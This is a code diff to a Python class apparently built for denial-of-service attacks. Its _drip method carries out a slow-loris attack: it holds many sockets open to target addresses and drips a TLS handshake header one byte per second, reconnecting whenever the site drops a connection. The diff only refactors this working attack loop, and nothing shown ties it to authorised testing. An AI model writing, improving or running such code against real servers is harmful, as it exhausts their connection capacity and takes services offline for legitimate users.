@@ -95,19 +95,19 @@ class Stranger:
 
     def _drip(self) -> None:
         """Slow-loris: the beginning of a handshake, a byte at a time."""
-        held: list[socket.socket] = []
+        held: dict[int, socket.socket] = {}
         while not self._over.is_set():
-            while len(held) < LORIS * len(self._places):
-                held.append(socket.create_connection(self._places[len(held) % len(self._places)], 5.0))
-            for k, one in enumerate(held):
-                try:
-                    one.sendall(b"\x16\x03\x01\x02\x00\x01"[self.drops % 6 :][:1])
-                except OSError:  # the site has had enough
-                    one.close()
-                    held[k] = socket.create_connection(self._places[k % len(self._places)], 5.0)
+            for k in range(LORIS * len(self._places)):
+                with contextlib.suppress(OSError):  # the site has had enough, or has ended
+                    if k not in held:
+                        held[k] = socket.create_connection(self._places[k % len(self._places)], 5.0)
+                    try:
+                        held[k].sendall(b"\x16\x03\x01\x02\x00\x01"[self.drops % 6 :][:1])
+                    except OSError:
+                        held.pop(k).close()
             self.drops += 1
             self._over.wait(1.0)
-        for one in held:
+        for one in held.values():
             one.close()
 
 
